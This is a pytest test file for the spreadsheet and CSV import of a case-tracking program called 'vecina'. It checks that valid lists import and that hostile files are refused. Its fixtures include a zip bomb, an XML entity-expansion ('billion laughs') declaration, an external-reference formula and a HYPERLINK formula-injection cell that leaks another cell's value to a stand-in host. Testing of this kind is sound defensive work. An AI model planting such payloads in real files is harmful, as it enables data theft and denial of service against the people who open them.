"""Lists as files from everywhere, and files that attack: read as values, or refused with the reason."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date, datetime, time
from pathlib import Path

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment

from intakes import CASE, csv_of, imported, new_records, records, xlsx_of
from programs import copy_of, vecina


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A copy of the miniature program."""
    return copy_of(tmp_path)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("letters", ["utf-8", "utf-8-sig", "cp1252"])
def test_a_csv_file_may_be_written_as_any_country_writes_it(root: Path, separator: str, letters: str) -> None:
    before = records(root)
    file = root / "list.csv"
    row = CASE | {"Attorney name": "Núria Ibáñez", "Client languages": "Spanish\nMam"}
    file.write_bytes(csv_of(row, separator=separator).replace("\n", "\r\n").encode(letters))
    done = vecina(f"import {file} --apply", root)
    assert done.exit_code == 0, done.output
    assert ("Windows-1252" in done.output) == (letters == "cp1252")
    attorney, case = new_records(root, before).values()
    assert "Núria Ibáñez" in attorney
    assert "languages: [es, mam]" in case


def test_a_workbook_gives_the_same_with_real_dates(root: Path) -> None:
    before = records(root)
    real: dict[str, object] = {
        "Day of the last arrival": datetime.combine(date(2026, 2, 3), time()),
        "Next hearing: day": date(2027, 3, 2),
        "Next hearing: time": time(13, 30),
        "Client is detained": False,
    }
    file = xlsx_of(root / "list.xlsx", list(CASE), list((CASE | real).values()))
    done = vecina(f"import {file} --apply", root)
    assert done.exit_code == 0, done.output
    case = list(new_records(root, before).values())[1]
    assert "last_arrival: 2026-02-03" in case
    assert 'date: 2027-03-02\n    time: "13:30"' in case


def refused(root: Path, raw: bytes, ending: str) -> str:
    """What is said of a file that is refused; nothing was written, and no value of it is said."""
    before = records(root)
    file = root / f"list.{ending}"
    file.write_bytes(raw)
    shown = vecina(f"import {file} --apply", root)
    assert shown.exit_code == 1
    assert "Zzyzx" not in shown.output
    assert records(root) == before
    return shown.output


CSV = {
    "The list is empty.": b"",
    "Save it as CSV UTF-8.": csv_of(CASE).encode("utf-16"),
    "The letters of the file cannot be read.": b"Court\n\x81\xff\n",
    "it holds zero bytes": b"Court\nZzyzx\0\n",
    "near line 2: a quotation mark": b'Court\n"Zzyzx\n',
    "Give it the ending .xlsx.": b"PK\x03\x04Zzyzx",
    "The list is too long": b"Court\n" + b"HOU\n" * 1001,
    "The list is too wide": b"x," * 61 + b"x\n",
    "The file is too large": b"x" * 5_000_001,
    "This is too long.": b"Court\n" + b"Zzyzx" * 1_000,
    "a cell is huge": b"Court\n" + b"Zzyzx" * 40_000,
    "There is no case in the list": b"Court\n",
    "Column 2 has no name in the first row.": b"Court\nHOU,Zzyzx\n",
}


@pytest.mark.parametrize("said", CSV)
def test_a_csv_file_that_cannot_be_a_list_is_refused(root: Path, said: str) -> None:
    assert said in refused(root, CSV[said], "csv")


def test_the_line_by_which_excel_names_its_separator_is_no_head(root: Path) -> None:
    text = "sep=;\n" + csv_of(CASE | {"Immigration court": "Zzyzx"}, separator=";")
    assert "row 3, Immigration court" in imported(root, text).output  # the rows are numbered as the spreadsheet shows them


def workbook(change: Callable[[zipfile.ZipFile, zipfile.ZipFile], None] | None = None, **cells: str | int) -> bytes:
    """A good workbook with these cells changed, and its archive changed."""
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(list(CASE))
    sheet.append(list(CASE.values()))
    for place, value in cells.items():
        sheet[place] = value
    out = io.BytesIO()
    made.save(out)
    if change is None:
        return out.getvalue()
    changed = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(changed, "w", zipfile.ZIP_DEFLATED) as new:
        change(old, new)
    return changed.getvalue()


def in_sheet(old: bytes, new: bytes) -> Callable[[zipfile.ZipFile, zipfile.ZipFile], None]:
    """A change of the bytes of the sheet."""

    def change(parts: zipfile.ZipFile, out: zipfile.ZipFile) -> None:
        for info in parts.infolist():
            raw = parts.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert old in raw
                raw = raw.replace(old, new)
            out.writestr(info.filename, raw)

    return change


def bomb(parts: zipfile.ZipFile, out: zipfile.ZipFile) -> None:
    in_sheet(b"", b"")(parts, out)
    out.writestr("xl/media/bomb.xml", b"0" * 40_000_000)


def crowd(parts: zipfile.ZipFile, out: zipfile.ZipFile) -> None:
    in_sheet(b"", b"")(parts, out)
    for number in range(400):
        out.writestr(f"xl/{number}.xml", b"")


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "Zzyzx"><!ENTITY b "&a;&a;&a;&a;">]>'
XLSX: list[tuple[str, Callable[[], bytes]]] = [
    ("cannot be read as an Excel workbook", lambda: b""),
    ("cannot be read as an Excel workbook", lambda: b"PK\x03\x04Zzyzx"),
    ("has a password or is in the old .xls form", lambda: b"\xd0\xcf\x11\xe0Zzyzx"),
    ("The file is too large", lambda: b"PK" + b"x" * 5_000_001),
    ("unpacks to too much", lambda: workbook(bomb)),
    ("unpacks to too much", lambda: workbook(crowd)),
    ("declares what no spreadsheet writes", lambda: workbook(in_sheet(b"<worksheet", LAUGHS + b"<worksheet"))),
    ("cannot be read as an Excel workbook", lambda: workbook(in_sheet(b"</row>", b""))),
    ("ends far below row", lambda: workbook(in_sheet(b'<row r="2"', b'<row r="99999999"'))),
    ("row 2, Placing organization: This is a formula.", lambda: workbook(A2='=HYPERLINK("https://example.org/?"&B2)')),
    ("This is a formula.", lambda: workbook(A2="=[1]Zzyzx!A1")),
    ("row 2, Immigration court: This cell shows an error of Excel.", lambda: workbook(H2="#N/A")),
    ("This looks like an A-number.", lambda: workbook(K2=123456789)),
    ("Column 26 has no name", lambda: workbook(Z2="Zzyzx")),
    ("The list is too wide", lambda: workbook(BZ1="Zzyzx")),
]


@pytest.mark.parametrize(("said", "raw"), XLSX)
def test_a_workbook_that_attacks_or_is_none_is_refused(root: Path, said: str, raw: Callable[[], bytes]) -> None:
    assert said in refused(root, raw(), "xlsx")


def test_links_comments_and_other_sheets_of_a_workbook_are_not_looked_at(root: Path) -> None:
    made = Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(list(CASE))
    sheet.append(list(CASE.values()))
    sheet["A2"].comment = Comment("Zzyzx", "Zzyzx")
    sheet["A2"].hyperlink = "https://example.org/Zzyzx"
    made.create_sheet("Zzyzx").append(["Zzyzx"])
    made.save(root / "list.xlsx")
    before = records(root)
    done = vecina(f"import {root / 'list.xlsx'} --apply", root)
    assert done.exit_code == 0, done.output
    assert "Zzyzx" not in done.output + "".join(new_records(root, before).values())
